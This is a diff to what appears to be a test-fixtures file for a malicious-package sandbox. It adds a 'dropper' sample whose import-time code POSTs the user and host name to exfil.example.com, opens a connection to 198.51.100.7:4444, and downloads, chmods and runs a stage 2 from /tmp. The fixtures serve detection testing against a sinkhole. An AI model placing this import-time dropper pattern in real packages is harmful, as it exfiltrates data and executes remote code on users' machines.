@@ -16,6 +16,9 @@ malicious sample can carry several behaviours at once:
 | `disk_fill` | a test allocates (``fallocate``), writes until ENOSPC, then tidies | tests |
 | `memory_hog` | a test allocates and touches memory until the guest's OOM killer strikes | tests |
 | `flood` | import prints 1 GiB to stdout (not under pytest) | import |
+| `dropper` | import: resolves a name, POSTs to it, sends to 198.51.100.7:4444, then | import |
+| | downloads a "stage 2", writes it to /tmp, chmods and runs it (the sinkhole answers) | |
+| | its test: a lookup that must fail (the tests phase is offline) | tests |
 
 The resource samples act in one phase only (the others stay clean) so the
 phase a finding or crash lands in is known.
@@ -30,6 +33,10 @@ from tests.fakes.dists import build_sdist, dedent, make_project
 #: TEST-NET-3: never routable, so nothing leaves even a networked machine by mistake.
 EXFIL_HOST = "203.0.113.7"
 EXFIL_PORT = 443
+#: Where the `dropper` phones home: a name (answered by the guest's sinkhole) and an address.
+DROPPER_HOST = "exfil.example.com"
+DROPPER_IP = "198.51.100.7"
+DROPPER_PORT = 4444
 #: The .pth `stealer`'s setup.py drops into the venv's site-packages.
 STEALER_PTH = "zz_stealer_hook.pth"
 
@@ -186,6 +193,44 @@ FLOOD_INIT = dedent(
     """
 )
 
+DROPPER_INIT = dedent(
+    f"""
+    import os
+    import socket
+    import subprocess
+    import sys
+    import urllib.request
+
+    __version__ = "1.0"
+
+    if "pytest" not in sys.modules:
+        # each stage as real droppers write it; the guest's sinkhole answers every one
+        socket.getaddrinfo({DROPPER_HOST!r}, 443)
+        loot = ("user=" + os.environ.get("USER", "") + "&host=" + socket.gethostname()).encode()
+        post = urllib.request.Request("http://{DROPPER_HOST}/upload", data=loot, method="POST")
+        urllib.request.urlopen(post, timeout=10).read()
+        with socket.create_connection(({DROPPER_IP!r}, {DROPPER_PORT}), timeout=10) as shell:
+            shell.sendall(b"READY " + socket.gethostname().encode())
+        stage2 = urllib.request.urlopen("http://{DROPPER_HOST}/stage2", timeout=10).read()
+        with open("/tmp/.stage2", "wb") as f:
+            f.write(stage2)
+        os.chmod("/tmp/.stage2", 0o755)
+        subprocess.run(["/tmp/.stage2"], timeout=10, check=False)
+    """
+)
+#: The tests phase is offline: a lookup there fails as it would without a network.
+DROPPER_TEST = dedent(
+    """
+    import socket
+
+    import pytest
+
+
+    def test_lookups_fail_offline():
+        with pytest.raises(socket.gaierror):
+            socket.getaddrinfo("pypi.org", 443)
+    """
+)
 STEALER_TEST = "import stealer\n\n\ndef test_version():\n    assert stealer.__version__\n"
 UNIMPORTING_TEST = "def test_nothing():\n    assert True\n"
 STEALER_PYPROJECT = dedent(
@@ -242,6 +287,14 @@ def disk_fill(dest: Path) -> list[Path]:
 def memory_hog(dest: Path) -> list[Path]:
     """A release whose test allocates memory until it is killed."""
     return make_project(dest, "memhog", "1.0", test_body=_literal(MEMORY_HOG_TEST)).files
+
+
+def dropper(dest: Path) -> list[Path]:
+    """A release whose import phones home and runs a downloaded stage 2 (sdist + wheel)."""
+    return make_project(
+        dest, "dropper", "1.0", package_body=_literal(DROPPER_INIT),
+        test_body=_literal(DROPPER_TEST),
+    ).files  # fmt: skip
 
 
 def flood(dest: Path) -> list[Path]:
